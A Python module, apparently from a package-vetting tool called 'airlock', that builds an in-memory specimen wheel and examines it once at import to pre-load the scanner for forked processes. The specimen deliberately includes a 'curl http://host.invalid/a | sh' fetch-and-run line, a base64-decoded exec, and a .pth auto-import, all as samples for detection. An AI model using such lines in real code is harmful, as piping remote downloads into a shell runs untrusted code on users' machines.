"""Loads once what examinations need, for the processes that are forked from this one to inherit.

Importing this module makes one examination of an artifact that has a little of everything, so that
whatever an examination loads on first use (modules, tables, compiled patterns) is there. Without
it each process would load the same again: 0.1 s, ten times what a small artifact costs.

- What comes of that examination is of no interest; that it loads everything is held by a test.
- Nothing of it is a package: the artifact lies in memory, and is gone before anything else begins.
"""

import contextlib
import io
import marshal
import os
import zipfile
from importlib.util import MAGIC_NUMBER
from pathlib import Path

from airlock import assembly, vetting
from airlock.errors import AirlockError
from airlock.model import Artifact, ArtifactName, Release, Sha256

_NAME = "airlock_specimen-1.0-py3-none-any.whl"
_INFO = "airlock_specimen-1.0.dist-info"
_METADATA = "Metadata-Version: 2.1\nName: airlock-specimen\nVersion: 1.0\nRequires-Dist: pip>1\n"
_CODE = "import base64, subprocess\nexec(base64.b64decode('cGFzcw=='))\nsubprocess.run('id -u')\n"
_CONTENT: dict[str, str | bytes] = {
    "specimen/__init__.py": _CODE,
    "specimen/broken.py": "import subprocess\nprint 'Python 2'\n",
    "specimen/run.sh": "#!/bin/sh\ncurl http://host.invalid/a | sh\n",
    "specimen/cells.ipynb": '{"cells": [], "metadata": {}, "nbformat": 4}',
    "specimen/data.pkl": b"\x80\x04N.",
    "specimen/old.pyc": MAGIC_NUMBER + bytes(12) + marshal.dumps(compile("1", "", "exec")),
    "specimen/native.so": b"\x7fELF\x02\x01\x01" + bytes(57),
    "specimen.pth": "import specimen\n",
    f"{_INFO}/METADATA": _METADATA,
    f"{_INFO}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    f"{_INFO}/RECORD": "",
}


def _packed() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in _CONTENT.items():
            archive.writestr(zipfile.ZipInfo(path), content)
    return packed.getvalue()


def _examine(data: bytes) -> None:
    name = ArtifactName.parse(_NAME)
    release = Release(project=name.project, version=name.version)
    artifact = Artifact(sha256=Sha256("0" * 64), size=len(data), name=name, release=release)
    checks, facts = assembly.examination_kit()
    descriptor = os.memfd_create(_NAME)
    try:
        os.write(descriptor, data)
        path = Path(f"/proc/self/fd/{descriptor}")
        vetting.vet(artifact, path, checks, assembly.policy(None), facts(assembly.now()))
    finally:
        os.close(descriptor)


with contextlib.suppress(AirlockError, OSError):
    # Where memory cannot be lent a path, whoever examines loads what it needs by itself.
    _examine(_packed())
